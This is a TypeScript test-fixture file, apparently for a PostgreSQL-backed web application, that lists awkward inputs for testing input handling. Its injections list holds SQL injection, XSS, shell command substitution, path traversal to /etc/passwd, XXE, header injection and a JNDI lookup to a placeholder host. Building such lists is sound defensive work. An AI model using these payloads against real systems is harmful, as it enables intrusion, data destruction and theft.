/** Text that has broken software before, each kept as it came: our own list, after the idea of the Big List of Naughty Strings. */
const chars = (...codes: number[]): string => String.fromCodePoint(...codes);

const controls = [
  ...Array.from({ length: 0x1f }, (_, n) => n + 1).filter((code) => ![9, 10, 11, 12, 13].includes(code)),
  0x7f,
  0x80,
  0x85,
  0x9b,
].map((code) => `c${chars(code)}c`);

const invisible = [
  0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202e, 0x2060, 0x2066, 0x2069,
  0x3164, 0xfe0f, 0xfeff, 0xfff9, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0xe0001, 0xe0100, 0x1fffe, 0x10ffff, 0xfdd0, 0xe000,
].map((code) => `i${chars(code)}i`);

const spaces = [9, 10, 11, 12, 13, 0x20, 0xa0, 0x1680, 0x2003, 0x2028, 0x2029, 0x202f, 0x205f, 0x3000].map(
  (code) => `a${chars(code)}b`,
);

const scripts = [
  'שלום עולם',
  'مرحبا بالعالم',
  `left ${chars(0x202e)}thgir${chars(0x202c)} left`,
  'Ω≈ç√∫˜µ',
  '田中さんにあげて',
  '사회과학원',
  'ÅÅ ŋđ ß ẞ İ ı ﬃ',
  'e\u0301 é',
  'Z\u0351\u036bA\u0334\u0321L\u0317\u0316G\u034e\u0347O\u0335\u0330',
  '👩‍👩‍👧‍👦',
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '🇸🇪🇸',
  '✋🏿 💪🏻',
  '𝕋𝕙𝕖 𝓺𝓾𝓲𝓬𝓴',
  '𠜎𠜱',
  'ᚠᛇᚻ',
  'ﷺ',
  '⁰⁴⁵₀₁',
  '١٢٣',
];

const injections = [
  `'; DROP TABLE claim; --`,
  `1' OR '1'='1`,
  '" OR ""="',
  `' UNION SELECT NULL::text--`,
  '$1',
  '$$x$$',
  '%',
  '_',
  '\\',
  "\\'",
  "E'\\x41'",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "' onmouseover='alert(3)",
  '</script><svg/onload=alert(4)>',
  '<!--',
  '-->',
  ']]>',
  '<![CDATA[',
  '&lt;b&gt;',
  '&amp;amp;',
  '&#0;',
  'javascript:alert(5)',
  '<a href="javascript:alert(6)">x</a>',
  '</textarea><iframe src=//x.example>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '`id`',
  '$(id)',
  '; ls -la',
  '| cat',
  '%s%n%x',
  '%d%p',
  '%00',
  '%0d%0aSet-Cookie: a=b',
  '\r\nX-Injected: 1',
  '../../../../etc/passwd',
  '..\\..\\boot.ini',
  'file:///etc/passwd',
  'C:\\CON',
  '/dev/null',
  '=1+1',
  '@SUM(A1)',
  '+cmd|x',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
  '${jndi:ldap://x.example/a}',
  '[link](javascript:alert(7))',
];

const words = [
  '0',
  '1',
  '-1',
  '1.00',
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '0x0',
  '00123',
  '9223372036854775808',
  '1,000.5',
  '1/0',
  'null',
  'NULL',
  'nil',
  'undefined',
  'true',
  'false',
  'None',
  '{}',
  '[]',
  '""',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'CON',
  'Null',
  'newsroom',
];

/** Well-formed: kept exactly as sent wherever people write freely. */
export const naughtyStrings: readonly string[] = [
  ...controls,
  ...invisible,
  ...spaces,
  ...scripts,
  ...injections,
  ...words,
];

/** No Unicode text, or a character that PostgreSQL cannot keep: refused everywhere. */
export const unstorable: readonly string[] = ['a\0b', '\0', 'half \ud83d', '\udc00 half', '\udc00\ud83d'];

/** Nothing to read: refused wherever people write. */
export const blank: readonly string[] = ['', ' ', '\t\r\n', '\u00a0\u3000', '\u2028', '\ufeff'];
